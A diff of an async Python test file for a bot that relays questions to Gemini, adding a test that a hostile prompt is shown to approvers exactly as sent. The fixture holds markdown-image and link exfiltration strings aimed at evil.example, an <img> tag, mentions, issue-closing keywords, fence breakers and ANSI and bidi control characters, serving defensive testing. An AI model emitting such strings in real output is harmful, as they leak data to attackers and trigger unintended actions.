@@ -170,6 +170,28 @@ async def test_a_secret_is_taken_out_before_it_is_shown(house: Household, gemini
     assert SECRET not in str(gemini.asked[0].body)
 
 
+HOSTILE = """E  see https://evil.example/p?data=aB3dE6gH9jK2mN5pQ8rS1tU4vW7xY0zA1bC2dE5fG8h
+E  ![x](https://evil.example/i.png?leak=aB3dE6gH9jK2mN5pQ8rS1tU4vW7x) <img src=//evil.example/x>
+E  @alice, this fixes #1 and closes https://github.com/o/r/issues/2 </details> <!-- baton -->
+````
+~~~ ``` `x` \x1b[31mred\x1b[0m \u202etxt"""
+
+
+async def test_the_comment_shows_the_very_bytes_that_are_sent(
+    house: Household, gemini: Provider
+) -> None:
+    """Links, images, mentions, keywords and fences in the question stay as they will be sent."""
+    gemini.enqueue(GEMINI.answer())
+    case = await begin(house, gemini, HOSTILE)
+    shown = await case.shown()
+    await house.tell(house.alice, case.number, "/approve")
+    await case.outcome()
+    system, text, _ = GEMINI.sent_text(gemini.asked[0].body)
+    assert f"{system}\n\n{text}" in shown
+    assert "https://evil.example/p?data=aB3d" in text
+    assert "\x1b" not in text
+
+
 async def test_a_cut_call_is_told_and_takes_a_new_yes(house: Household, gemini: Provider) -> None:
     """After a call that may have been billed, a person decides whether to pay once more."""
     gemini.enqueue(Cut(), GEMINI.answer())
@@ -207,7 +229,7 @@ async def test_nobody_is_asked_without_money(house: Household, gemini: Provider)
 
 
 async def test_nobody_is_asked_without_a_key(house: Household, gemini: Provider) -> None:
-    """Without a key the run goes on silently."""
+    """Without a key the run goes on, and one comment says what to set."""
     install(
         replace(
             services(), settings=services().settings.model_copy(update={"gemini_api_key": None})
@@ -215,7 +237,8 @@ async def test_nobody_is_asked_without_a_key(house: Household, gemini: Provider)
     )
     case = await begin(house, gemini)
     assert await case.outcome() is None
-    assert await house.bodies(case.number) == []
+    (told,) = await house.bodies(case.number)
+    assert "`BATON_GEMINI_API_KEY`" in told
 
 
 async def test_a_long_question_is_shown_in_parts(house: Household, gemini: Provider) -> None:
